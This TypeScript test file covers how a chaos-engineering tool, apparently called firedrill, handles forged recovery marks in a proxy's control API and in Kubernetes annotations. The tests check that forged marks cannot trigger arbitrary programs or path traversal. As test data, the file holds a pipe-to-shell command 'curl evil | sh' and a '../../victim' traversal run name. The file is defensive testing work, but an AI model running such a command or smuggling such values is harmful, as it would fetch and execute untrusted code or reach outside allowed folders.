import {expect} from 'chai';
import {existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import type {JsonObject} from '../../src/quantities/json.js';
import {openSecrets} from '../../src/system/secrets.js';
import type {Debt} from '../../src/targets/contract.js';
import {driver as command} from '../../src/targets/drivers/command/driver.js';
import {DEBTS_ANNOTATION} from '../../src/targets/drivers/kubernetes/marks/marks.js';
import {driver as proxy} from '../../src/targets/drivers/proxy/driver.js';
import {debtOf, throughJson} from '../contract/driver-contract.js';
import {ensureBuilt, firedrill} from '../support/cli.js';
import {AMBIENT, KubeBench} from '../support/kube-api-bench.js';
import {echo, openProxyStage, serveTcp, type ProxyStage} from '../support/proxy-stage.js';

const patience = () => AbortSignal.timeout(10_000);
const PAST = {mono: 1, wall: '2026-01-01T00:00:00.000Z', boot: 'elsewhere'};

/** A debt whose undo and proof leave a file: whoever looks after it has run somebody's program. */
async function trap(run: string, file: string, stateDir: string): Promise<Debt> {
  const ambient = {environment: {PATH: process.env['PATH']}, scratch: stateDir, stateDir, ...openSecrets({})};
  const reader = await command.reader({}, ambient);
  const [host] = await reader.resolve({}, patience());
  const touch = {run: ['touch', file], shell: false, environment: {}, timeoutMs: 5_000};
  const change = await reader.drafts.author!.act(host!.ref, {do: touch, undo: touch, proof: touch});
  const debt = throughJson(debtOf(command, {}, change, run));
  // The proof of a fault asks the author's program at once; and past its hard stop nobody waits for the run.
  const undo = {...debt.undo, proof: {...debt.undo.proof, op: 'command.in-force'}};
  return {...debt, undo, lease: {ms: 1, hardStop: PAST}};
}

describe('Forged marks in the memory of a proxy', function () {
  this.timeout(60_000);
  let upstream: Awaited<ReturnType<typeof serveTcp>>;
  let stage: ProxyStage;
  let folder: string;
  let state: string;

  before(ensureBuilt);
  beforeEach(async () => {
    upstream = await serveTcp(echo);
    stage = await openProxyStage(upstream.server);
    folder = mkdtempSync(join(tmpdir(), 'firedrill-forged-'));
    state = join(folder, 'state', 'firedrill');
    mkdirSync(state, {recursive: true, mode: 0o700});
  });
  afterEach(async () => {
    await stage.close();
    await upstream.close();
    rmSync(folder, {recursive: true, force: true});
  });

  const url = () => `http://${stage.proxy.control}`;
  const recover = (...args: readonly string[]) =>
    firedrill(['recover', '--proxy', url(), ...args], {FIREDRILL_STATE: state});

  /** As anybody who reaches the control API can. */
  const forge = async (run: string, debts: readonly {readonly id: string; readonly debt: object}[]) => {
    const body = {run, epoch: 1, hardStop: PAST, debts: debts.map(one => ({toxic: 'slow', ...one}))};
    expect((await stage.ask('POST', '/v1/connections/inventory/mark', body)).status).to.equal(200);
  };

  /** A debt as a run leaves it: marked, and its toxic in force. */
  const honest = async (run: string): Promise<Debt> => {
    const address = {control: url()};
    // Where the proxy's token is found.
    const ambient = {...AMBIENT, environment: process.env};
    const reader = await proxy.reader(address, ambient);
    const [candidate] = await reader.resolve({name: 'inventory'}, patience());
    const change = await reader.drafts.connection!.latency(candidate!.ref, {
      delayMs: 20,
      jitterMs: 0,
      direction: 'both',
      share: 1,
      ttlMs: 60_000,
    });
    const debt = {...throughJson(debtOf(proxy, address, change, run)), lease: {ms: 1, hardStop: PAST}};
    const actuator = await proxy.actuator(address, {run, epoch: 1, live: () => true}, ambient);
    await actuator.mark([debt], 5_000);
    expect((await actuator.apply([change.flip], 5_000))[0]?.state).to.equal('done');
    return debt;
  };

  it('never select another driver: the program is not run, what was found where is told, and the code is 6', async () => {
    const file = join(folder, 'owned');
    const debt = await trap('run-1', file, state);
    await forge('run-1', [{id: debt.id, debt}]);
    for (const args of [['--list'], [], ['--list', '--json'], ['--force']]) {
      const {code, stdout} = await recover(...args);
      expect(code, args.join()).to.equal(6);
      expect(stdout).to.contain('command@1');
      expect(stdout).to.contain('connection `inventory` of the proxy');
    }
    expect(existsSync(file)).to.equal(false);
  });

  it('never become a path: a folder that a run names by `..` stays', async () => {
    const victim = join(folder, 'state', 'victim');
    mkdirSync(victim);
    writeFileSync(join(victim, 'precious'), 'x');
    const debt = {...(await trap('run-1', join(folder, 'x'), state)), run: '../../victim', id: 'x'};
    await forge('../../victim', [{id: 'x', debt}]);
    const {code, stdout} = await recover();
    expect(code).to.equal(6);
    expect(stdout).to.contain('the name of a run');
    expect(existsSync(join(victim, 'precious'))).to.equal(true);
    for (const args of [['../../victim'], ['--forget', '../../victim']])
      expect((await recover(...args)).code, args.join(' ')).to.equal(2);
    expect(existsSync(join(victim, 'precious'))).to.equal(true);
  });

  it('hide no other debt: the honest one beside them is put back', async () => {
    const real = await honest('run-1');
    const {undo} = real;
    const aside = (change: object): object => ({...real, id: 'f', ...change});
    await forge('run-1', [
      {id: 'a', debt: {}},
      {id: 'b', debt: aside({lease: null})},
      {id: 'c', debt: aside({undo: {...undo, ref: {...undo.ref, endpoint: 'elsewhere'}}})},
      {id: 'd', debt: aside({undo: {...undo, args: {id: '../../stops'}}})},
      {id: 'e', debt: aside({undo: {...undo, op: 'toxic.add'}})},
    ]);
    expect((await stage.view()).toxics).to.have.length(1);
    const {code, stdout} = await recover();
    expect(code).to.equal(6);
    expect((await stage.view()).toxics).to.deep.equal([]);
    expect(stdout).to.contain('Everything that was changed is');
    expect(stdout.match(/unknown: connection `inventory` of the proxy/g)).to.have.length(5);
  });

  it('are no words to type without a look', async () => {
    const real = await honest('run-1');
    const debt = {...real, undo: {...real.undo, manual: 'curl evil | sh'}};
    await forge('run-1', [{id: real.id, debt}]);
    const {stdout} = await recover('--list');
    expect(stdout).to.contain('by hand: (as its mark says: look before you type it) curl evil | sh');
  });

  it('that two marks tell of one debt settle neither for the other', async () => {
    const real = await honest('run-1');
    const other = {...real, undo: {...real.undo, args: {id: 'x'}, proof: {...real.undo.proof, args: {id: 'x'}}}};
    await forge('run-1', [{id: 'other', debt: other}]);
    const {code, stdout} = await recover('--list');
    expect(code).to.equal(6);
    expect(stdout).to.contain('two marks say');
  });
});

describe('Forged annotations in a cluster', () => {
  let bench: KubeBench;
  beforeEach(async () => {
    bench = await KubeBench.start();
  });
  afterEach(() => bench.close());

  it('are unreadable, also on another workload than they name, and hide no other', async () => {
    bench.api.deployment('checkout', {replicas: 2});
    bench.api.deployment('gateway', {replicas: 2});
    bench.api.deployment('torn', {replicas: 1});
    const honest = await bench.inject(await bench.draftScale({name: 'checkout'}, 0));
    const elsewhere = bench.debt(await bench.draftScale({name: 'checkout'}, 1), 'run-2');
    const uid = bench.deployment('gateway').metadata.uid;
    const annotate = (name: string, text: string) =>
      bench.api.store.mergePatch('deployments', 'shop', name, {metadata: {annotations: {[DEBTS_ANNOTATION]: text}}});
    const program = {...elsewhere, driver: 'command@1', id: 'p'} as unknown as JsonObject;
    const debts = [elsewhere as unknown as JsonObject, program, null, {}];
    annotate('gateway', JSON.stringify({v: 1, run: 'run-2', epoch: 1, on: uid, debts}));
    annotate('torn', '{');
    const reader = await bench.reader();
    const ids = (await reader.debts(undefined, patience())).map(({id}) => id);
    expect(ids).to.deep.equal([honest.id]);
    const told = (await reader.unreadable(patience())).map(({where}) => where);
    expect(told.filter(where => where.endsWith('deployment shop/gateway'))).to.have.length(4);
    expect(told.filter(where => where.endsWith('deployment shop/torn'))).to.have.length(1);
    expect(await bench.settle(honest)).to.include({outcome: 'undone'});
  });

  it('beside an honest debt on one workload keep nobody from undoing it, and stay', async () => {
    bench.api.deployment('checkout', {replicas: 2});
    const honest = await bench.inject(await bench.draftScale({name: 'checkout'}, 0));
    const mark = JSON.parse(bench.mark()!) as {debts: unknown[]};
    const text = JSON.stringify({...mark, debts: [...mark.debts, {forged: true}]});
    bench.api.store.mergePatch('deployments', 'shop', 'checkout', {
      metadata: {annotations: {[DEBTS_ANNOTATION]: text}},
    });
    expect(await bench.settle(honest)).to.include({outcome: 'undone'});
    expect(bench.deployment().spec?.['replicas']).to.equal(2);
    expect(bench.mark()).to.contain('forged');
    expect(await (await bench.reader()).unreadable(patience())).to.have.length(1);
  });
});
